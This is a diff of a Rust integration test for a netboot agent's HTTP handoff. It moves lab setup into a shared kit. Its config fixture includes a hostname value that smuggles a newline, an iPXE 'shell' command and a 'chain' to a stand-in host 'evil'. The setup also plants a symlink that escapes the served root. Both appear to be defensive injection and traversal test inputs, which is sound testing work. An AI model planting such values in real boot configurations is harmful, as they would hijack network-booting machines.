@@ -1,39 +1,40 @@
 //! The HTTP handoff in the lab, with curl: per-node scripts (known, unknown, injection
 //! attempts), static files with Range and HEAD, refusals, leases and metrics.
 
-use netboot::lab::{Agent, Lab, LabSpec, pattern};
+use netboot::lab::{Agent, pattern};
 use std::path::{Path, PathBuf};
-use tests::{bin, require_root};
+use tests::{kit, require_root};
 
+/// A lab with an agent serving scripts and files from `root` (the agent stops first).
 struct Setup {
-    lab: Lab,
-    dir: PathBuf,
-    root: PathBuf,
     _agent: Agent,
+    root: PathBuf,
+    kit: kit::Setup,
+}
+
+impl std::ops::Deref for Setup {
+    type Target = kit::Setup;
+    fn deref(&self) -> &kit::Setup {
+        &self.kit
+    }
 }
 
 fn setup() -> Setup {
-    let lab = Lab::create(&LabSpec { server: "10.77.0.1/16".parse().unwrap(), client: Some("10.77.0.2/16".parse().unwrap()) }).unwrap();
-    let dir = std::env::temp_dir().join(format!("nbx-http-{}", lab.id));
-    let _ = std::fs::remove_dir_all(&dir);
-    let root = dir.join("root");
+    let kit = kit::Setup::new("http", |dir| {
+        format!(
+            "[server]\naddress = \"10.77.0.1\"\nstate_dir = \"{}\"\n[dhcp]\nsubnet = \"10.77.0.0/16\"\n[[dhcp.host]]\nmac = \"52:54:00:00:00:07\"\nip = \"10.77.0.7\"\nhostname = \"node-007\"\nvars = {{ rack = \"r1\", role = \"worker\" }}\n[[dhcp.host]]\nmac = \"52:54:00:00:00:66\"\nip = \"10.77.0.66\"\nhostname = \"x\\nshell; chain http://evil/${{a}}\"\nvars = {{ note = \"a b\\nc\" }}\n[http]\nlisten = \"0.0.0.0:8080\"\nroot = \"{}\"\nscript = \"boot.ipxe.j2\"\n",
+            dir.join("state").display(),
+            dir.join("root").display()
+        )
+    });
+    let (dir, root) = (&kit.dir, kit.dir.join("root"));
     std::fs::create_dir_all(&root).unwrap();
     std::fs::copy(Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/boot.ipxe.j2"), root.join("boot.ipxe.j2")).unwrap();
     std::fs::write(root.join("vmlinuz"), pattern(1 << 20, 9)).unwrap();
     std::fs::write(dir.join("secret"), b"outside").unwrap();
     std::os::unix::fs::symlink(dir.join("secret"), root.join("escape")).unwrap();
-    let config = dir.join("netboot.toml");
-    std::fs::write(
-        &config,
-        format!(
-            "[server]\naddress = \"10.77.0.1\"\nstate_dir = \"{}\"\n[dhcp]\nsubnet = \"10.77.0.0/16\"\n[[dhcp.host]]\nmac = \"52:54:00:00:00:07\"\nip = \"10.77.0.7\"\nhostname = \"node-007\"\nvars = {{ rack = \"r1\", role = \"worker\" }}\n[[dhcp.host]]\nmac = \"52:54:00:00:00:66\"\nip = \"10.77.0.66\"\nhostname = \"x\\nshell; chain http://evil/${{a}}\"\nvars = {{ note = \"a b\\nc\" }}\n[http]\nlisten = \"0.0.0.0:8080\"\nroot = \"{}\"\nscript = \"boot.ipxe.j2\"\n",
-            dir.join("state").display(),
-            root.display()
-        ),
-    )
-    .unwrap();
-    let agent = Agent::start(&lab, &bin("netboot-xdp"), &config, &[]).unwrap();
-    Setup { lab, dir, root, _agent: agent }
+    let agent = kit.start();
+    Setup { _agent: agent, root, kit }
 }
 
 /// curl in the client namespace: (HTTP status, body).
